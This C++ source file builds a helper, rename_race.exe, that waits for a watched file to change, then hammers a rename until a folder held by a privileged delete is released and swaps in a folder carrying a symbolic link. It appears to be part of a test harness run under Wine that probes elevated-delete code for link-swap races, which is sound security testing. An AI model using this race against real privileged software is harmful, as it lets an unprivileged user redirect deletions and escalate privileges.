// An ordinary user's attack on an elevated delete: once a file appears or vanishes, renames a folder away,
// again and again until that is allowed, and at once puts a link in its place:
//   rename_race.exe there|gone WATCH FOLDER AWAY LINKED SECONDS
// FOLDER is renamed to AWAY; LINKED, a folder of the attacker's made beforehand that holds the link, then
// takes FOLDER's name. Wine's CreateSymbolicLinkW makes nothing, and renaming a Unix symbolic link under
// Wine moves the folder it points to, so the link (a Unix one) is made in LINKED beforehand and arrives
// with it in one rename, as quickly as a link made on the spot. Prints "watching" once it watches, then
// "linked after N refused renames"; exits 1 when WATCH does not change or FOLDER stays held for SECONDS.
#include <windows.h>

#include <cstdio>
#include <cwchar>

namespace {

bool Exists(const wchar_t* path) {
    return GetFileAttributesW(path) != INVALID_FILE_ATTRIBUTES;
}

}  // namespace

int wmain(int argc, wchar_t** argv) {
    if (argc != 7 || (std::wcscmp(argv[1], L"there") != 0 && std::wcscmp(argv[1], L"gone") != 0)) {
        std::fputs("usage: rename_race.exe there|gone WATCH FOLDER AWAY LINKED SECONDS\n", stderr);
        return 2;
    }
    const bool untilThere = std::wcscmp(argv[1], L"there") == 0;
    const ULONGLONG deadline = GetTickCount64() + std::wcstoul(argv[6], nullptr, 10) * 1000;
    std::puts("watching");
    std::fflush(stdout);
    while (Exists(argv[2]) != untilThere) {
        if (GetTickCount64() > deadline) {
            std::puts("the watched file did not change");
            return 1;
        }
        Sleep(1);
    }
    // No pause between tries: the moment the folder is let go is the attacker's chance.
    unsigned long refused = 0;
    while (!MoveFileExW(argv[3], argv[4], 0)) {
        ++refused;
        if (GetTickCount64() > deadline) {
            std::printf("still held after %lu refused renames\n", refused);
            return 1;
        }
    }
    if (!MoveFileExW(argv[5], argv[3], 0)) {
        std::printf("renamed after %lu refused renames, but no link put in its place\n", refused);
        return 1;
    }
    std::printf("linked after %lu refused renames\n", refused);
    return 0;
}
